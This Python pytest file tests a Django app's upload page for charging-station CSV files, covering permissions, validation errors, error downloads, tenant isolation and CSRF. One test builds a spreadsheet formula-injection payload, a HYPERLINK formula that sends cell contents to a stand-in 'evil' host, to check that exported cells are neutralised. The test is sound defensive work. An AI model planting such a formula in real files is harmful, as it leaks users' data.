"""The upload page (``stations:upload``) and its example files (``stations:example_csv``)."""

import codecs
import csv
import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from stations import csv_export, csv_format, csv_import
from stations.choices import ImportSource
from stations.models import ConnectorSpec, ImportRecord, Station
from stations.views import NO_TENANT_MESSAGE
from tests.csv_helpers import csv_bytes, row, station_rows
from tests.factories import make_operator, make_station, make_support

pytestmark = pytest.mark.django_db

URL = "/stations/upload/"


def upload(client, data: bytes, name="stations.csv", **fields):
    return client.post(URL, {"file": SimpleUploadedFile(name, data, "text/csv"), **fields})


def test_url_name():
    assert reverse("stations:upload") == URL
    assert reverse("stations:example_csv", kwargs={"kind": "single"}) == "/stations/upload/example-single.csv"


def test_requires_login(client):
    response = client.get(URL)
    assert response.status_code == 302
    assert "/accounts/login/" in response["Location"]


def test_requires_add_station_permission(client, tenant):
    from django.contrib.auth import get_user_model

    from stations.models import Membership

    user = get_user_model().objects.create_user("nobody", password="x")
    Membership.objects.create(user=user, tenant=tenant)
    client.force_login(user)
    assert client.get(URL).status_code == 403
    assert upload(client, csv_bytes(row())).status_code == 403
    assert not Station.objects.exists()


def test_page_shows_advice_examples_and_form(operator_client):
    response = operator_client.get(URL)
    page = response.content.decode()
    assert response.status_code == 200
    for text in (
        "semicolons",
        "Check only",
        "5,000 rows",
        "phase",
        "example-single.csv",
        "example-multiple.csv",
    ):
        assert text in page
    for header in csv_format.HEADERS:
        assert f'<code class="text-nowrap">{header}</code>' in page


def test_imports_a_good_file(operator_client, tenant, operator):
    response = upload(
        operator_client, csv_bytes(*station_rows("ST1", 2), row(Station_ID="ST2", Voltage="400"))
    )
    assert response.status_code == 200
    result = response.context["result"]
    assert (result.stations_created, result.stations_overridden, result.connector_specs) == (2, 0, 3)
    page = response.content.decode()
    assert "Imported" in page
    assert "enter 230 V instead" in page
    assert Station.objects.filter(tenant=tenant).count() == 2
    record = ImportRecord.objects.get()
    assert (record.source, record.user, record.file_name, record.succeeded) == (
        ImportSource.UPLOAD,
        operator,
        "stations.csv",
        True,
    )


def test_result_counts_are_in_the_singular_for_one(operator_client, tenant):
    make_station(tenant, station_id="OLD1")
    response = upload(operator_client, csv_bytes(row(Station_ID="NEW1"), row(Station_ID="OLD1")))
    result = response.context["result"]
    assert (result.stations_created, result.stations_overridden, result.connector_specs) == (1, 1, 2)
    page = response.content.decode()
    assert ">station created<" in page
    assert ">station overridden<" in page
    assert ">connector specifications<" in page
    assert "stations overridden" not in page


def test_bad_file_shows_errors_and_writes_nothing(operator_client, tenant):
    make_station(tenant, station_id="KEEP")
    before = (Station.objects.count(), ConnectorSpec.objects.count())
    response = upload(operator_client, csv_bytes(row(Station_ID="ST1"), row(Station_ID="ST2", Voltage="99")))
    assert response.status_code == 422
    assert [(e.row, e.column, e.code) for e in response.context["result"].errors] == [
        (3, "Voltage", "min_value")
    ]
    page = response.content.decode()
    assert "Nothing was imported" in page
    assert "Enter whole volts from 110 to 1000." in page
    assert (Station.objects.count(), ConnectorSpec.objects.count()) == before
    assert ImportRecord.objects.filter(source=ImportSource.UPLOAD, succeeded=False, error_count=1).exists()


def test_150_identical_errors_show_as_one_line_with_their_rows(operator_client):
    # Issue 12: identical message and column on many rows are grouped (they were 100 identical rows).
    rows = [row(Station_ID=f"S{n}", Voltage="1") for n in range(150)]
    response = upload(operator_client, csv_bytes(*rows))
    groups = response.context["error_groups"]
    assert [(g.column, g.rows_text, g.values) for g in groups] == [("Voltage", "2–151", ["1"])]
    assert response.context["error_groups_more"] == 0
    page = response.content.decode()
    assert page.count("Enter whole volts from 110 to 1000.") == 1
    assert "<td>2–151</td>" in page
    assert "Download all 150 errors (CSV)" in page


def errors_url(response) -> str:
    return reverse("stations:upload_errors", kwargs={"pk": response.context["result"].record.pk})


def test_full_error_list_is_stored_on_the_record_and_downloads_as_csv(operator_client, operator):
    rows = [row(Station_ID=f"S{n}", Voltage="1") for n in range(150)]
    response = upload(operator_client, csv_bytes(*rows))
    record = response.context["result"].record
    assert len(record.errors) == 150
    assert record.errors[0] == {
        "row": 2,
        "column": "Voltage",
        "code": "min_value",
        "message": "Enter whole volts from 110 to 1000.",
        "value": "1",
    }
    assert f'href="{errors_url(response)}"' in response.content.decode()
    download = operator_client.get(errors_url(response))
    assert download.status_code == 200
    assert download["Content-Type"] == "text/csv; charset=utf-8"
    lines = download.content.decode("utf-8-sig").splitlines()
    assert lines[0] == "Row;Column;Value;Message"
    assert len(lines) == 151
    assert lines[1] == "2;Voltage;1;Enter whole volts from 110 to 1000."


def test_error_list_of_another_tenant_is_404(operator_client, other_operator):
    url = errors_url(upload(operator_client, csv_bytes(row(Voltage="1"))))
    client = Client()
    client.force_login(other_operator)
    assert client.get(url).status_code == 404


def test_error_list_needs_login_and_add_station(operator_client, tenant):
    url = errors_url(upload(operator_client, csv_bytes(row(Voltage="1"))))
    client = Client()
    assert client.get(url).status_code == 302
    viewer = make_operator(tenant, "vera")
    viewer.groups.clear()
    client.force_login(viewer)
    assert client.get(url).status_code == 403


def test_error_list_cells_are_neutralised_column_and_message_too(operator_client):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"fix")'
    header = [formula if h == "Serial number" else h for h in csv_format.HEADERS]
    response = upload(operator_client, csv_bytes(row(), header=header))
    download = operator_client.get(errors_url(response)).content.decode("utf-8-sig")
    cells = [cell for line in list(csv.reader(io.StringIO(download), delimiter=";"))[1:] for cell in line]
    assert cells, download
    assert not [cell for cell in cells if cell[:1] and cell[:1] in "=+-@"], cells


def test_check_only_reports_per_station_and_writes_nothing(operator_client, tenant):
    make_station(tenant, station_id="OWN1")
    response = upload(
        operator_client, csv_bytes(*station_rows("NEW1", 2), row(Station_ID="OWN1")), check_only="on"
    )
    assert response.status_code == 200
    assert Station.objects.count() == 1
    page = response.content.decode()
    assert "Check passed" in page
    assert [(s.station_id, s.action) for s in response.context["result"].plan.stations] == [
        ("NEW1", "create"),
        ("OWN1", "override"),
    ]
    assert ImportRecord.objects.filter(dry_run=True).count() == 1


def test_check_only_says_an_overridden_station_keeps_its_stored_station_id(operator_client, tenant):
    make_station(tenant, station_id="WIZ-001")
    response = upload(operator_client, csv_bytes(row(Station_ID="wiz-001")), check_only="on")
    assert response.context["result"].ok
    page = response.content.decode()
    assert "keeps its Station ID <code>WIZ-001</code>" in page
    assert Station.objects.get().station_id == "WIZ-001"


def test_check_only_shows_refused_stations_and_why(operator_client, other_tenant):
    make_station(other_tenant, station_id="THEIRS")
    response = upload(
        operator_client, csv_bytes(row(Station_ID="THEIRS"), row(Station_ID="MINE")), check_only="on"
    )
    page = response.content.decode()
    assert "Refused" in page
    assert "This Station ID is already registered." in page
    assert "South Volt" not in page


def test_file_over_the_limit_is_refused_before_it_is_read(operator_client, settings):
    settings.STATION_IMPORT_MAX_UPLOAD_BYTES = 1000
    big = csv_bytes(*[row(Station_ID=f"S{n}") for n in range(100)])
    assert len(big) > 1000
    response = upload(operator_client, big)
    # The upload handler stopped storing it: the request never got the file.
    assert "file" not in response.wsgi_request.FILES
    assert [e.code for e in response.context["result"].errors] == ["file_too_large"]
    assert "the limit is" in response.content.decode()
    assert not Station.objects.exists()
    record = ImportRecord.objects.get()
    assert (record.succeeded, record.file_name, record.error_count) == (False, "stations.csv", 1)


def test_request_far_over_the_limit_is_refused_without_storing_it(operator_client, settings):
    settings.STATION_IMPORT_MAX_UPLOAD_BYTES = 1000
    huge = b"x" * (200 * 1024)
    response = upload(operator_client, huge)
    assert "file" not in response.wsgi_request.FILES
    assert [e.code for e in response.context["result"].errors] == ["file_too_large"]
    assert ImportRecord.objects.get().error_count == 1


def test_damaged_workbook_is_refused_with_a_clear_message(operator_client):
    # Workbooks are read since issue 10: one that is not a readable zip is refused as a damaged workbook.
    response = upload(operator_client, b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 100, name="stations.xlsx")
    assert response.status_code == 422
    assert [e.code for e in response.context["result"].errors] == ["unreadable_workbook"]
    assert "workbook" in response.content.decode()
    assert not Station.objects.exists()
    record = ImportRecord.objects.get()
    assert (record.succeeded, record.file_name, record.error_count) == (False, "stations.xlsx", 1)


def test_unclosed_quote_in_a_long_file_is_a_422_with_a_record(operator_client):
    rows = [row(Station_ID=f"S{n}") for n in range(3000)]
    data = csv_bytes(*rows).replace(b"S10;K7P2-93QX;Alfen", b'S10;K7P2-93QX;"Alfen')
    response = upload(operator_client, data)
    assert response.status_code == 422
    assert [e.code for e in response.context["result"].errors] == ["unclosed_quote"]
    assert not Station.objects.exists()
    assert ImportRecord.objects.get().errors[0]["code"] == "unclosed_quote"


def test_empty_file_is_the_engines_error_with_a_record(operator_client):
    response = upload(operator_client, b"")
    assert response.status_code == 422
    assert [e.code for e in response.context["result"].errors] == ["empty_file"]
    assert ImportRecord.objects.get().error_count == 1


def test_limits_on_the_page_come_from_the_settings(operator_client, settings):
    settings.STATION_IMPORT_MAX_ROWS = 1200
    settings.STATION_IMPORT_MAX_UPLOAD_BYTES = 5_000_000
    page = operator_client.get(URL).content.decode()
    assert "At most 1,200 rows</strong> below the header and 4.8 MB" in page
    assert "at most 1,200 rows and 4.8 MB." in page
    assert "5,000" not in page


def test_windows_1252_file_is_imported_and_said(operator_client):
    response = upload(operator_client, csv_bytes(row(Manufacturer="Müller"), encoding="cp1252"))
    assert response.context["result"].ok
    assert "Windows-1252" in response.content.decode()
    assert Station.objects.get().manufacturer == "Müller"


def test_support_user_without_tenant_cannot_upload(client):
    client.force_login(make_support())
    assert "not linked to an operator" in client.get(URL).content.decode()
    assert upload(client, csv_bytes(row())).status_code == 403
    assert not Station.objects.exists()


@pytest.mark.parametrize("name", ["stations:upload", "stations:import"])
def test_support_user_without_tenant_gets_the_same_403_on_both_import_pages(client, name):
    client.force_login(make_support())
    response = client.get(reverse(name))
    assert response.status_code == 403
    assert [template.name for template in response.templates][:2] == ["403.html", "base.html"]
    assert NO_TENANT_MESSAGE in response.content.decode()
    assert "Ask support to add you" not in response.content.decode()


def test_import_record_changelist_shows_the_check_only_column(client, tenant):
    ImportRecord.objects.create(tenant=tenant, source=ImportSource.UPLOAD, dry_run=True, succeeded=True)
    client.force_login(make_support())
    response = client.get(reverse("admin:stations_importrecord_changelist"))
    assert response.status_code == 200
    columns = response.context["cl"].list_display
    assert columns[columns.index("source") + 1] == "dry_run"
    assert "column-dry_run" in response.content.decode()
    assert "Check only" in response.content.decode()


@pytest.mark.parametrize("kind", ["single", "multiple"])
def test_example_files_download_and_import_cleanly(operator_client, tenant, kind):
    response = operator_client.get(reverse("stations:example_csv", kwargs={"kind": kind}))
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="stations-example-{kind}.csv"'
    # UTF-8 with a byte-order mark, so that Excel reads accented letters right.
    assert response.content.startswith(codecs.BOM_UTF8 + b"Station ID;")
    plan = csv_import.parse(response.content, tenant=tenant)
    assert plan.ok, plan.errors
    assert not plan.warnings
    specs = [len(s.specs) for s in plan.stations]
    assert set(specs) == ({1} if kind == "single" else {2, 3})
    assert upload(operator_client, response.content).context["result"].ok


@pytest.mark.parametrize("kind", ["single", "multiple"])
def test_two_tenants_both_import_a_downloaded_example(client, tenant, other_tenant, kind):
    url = reverse("stations:example_csv", kwargs={"kind": kind})
    for user in (make_operator(tenant, "first"), make_operator(other_tenant, "second")):
        client.force_login(user)
        response = upload(client, client.get(url).content)
        result = response.context["result"]
        assert result.ok, result.errors
        assert result.stations_created == len(csv_export.EXAMPLES[kind][1])
    assert (
        Station.objects.filter(tenant=tenant).count() == Station.objects.filter(tenant=other_tenant).count()
    )


def test_example_station_ids_are_new_on_every_download(operator_client):
    url = reverse("stations:example_csv", kwargs={"kind": "single"})
    first, second = (operator_client.get(url) for _ in range(2))
    ids = [
        {r[0] for r in csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")}
        - {"Station ID"}
        for response in (first, second)
    ]
    assert len(ids[0]) == 3
    assert not ids[0] & ids[1]
    assert all(re.fullmatch(r"EXAMPLE-[A-Z2-9]{6}-\d{4}", station_id) for station_id in ids[0])
    assert first["Cache-Control"] == "no-store"


def test_unknown_example_is_404(operator_client):
    assert operator_client.get("/stations/upload/example-other.csv").status_code == 404


def test_upload_is_csrf_protected(operator):
    from django.test import Client

    client = Client(enforce_csrf_checks=True)
    client.force_login(operator)
    assert upload(client, csv_bytes(row())).status_code == 403
    assert not Station.objects.exists()
    page = client.get(URL)
    token = page.cookies["csrftoken"].value
    response = upload(client, csv_bytes(row()), csrfmiddlewaretoken=token)
    assert response.status_code == 200
    assert Station.objects.count() == 1
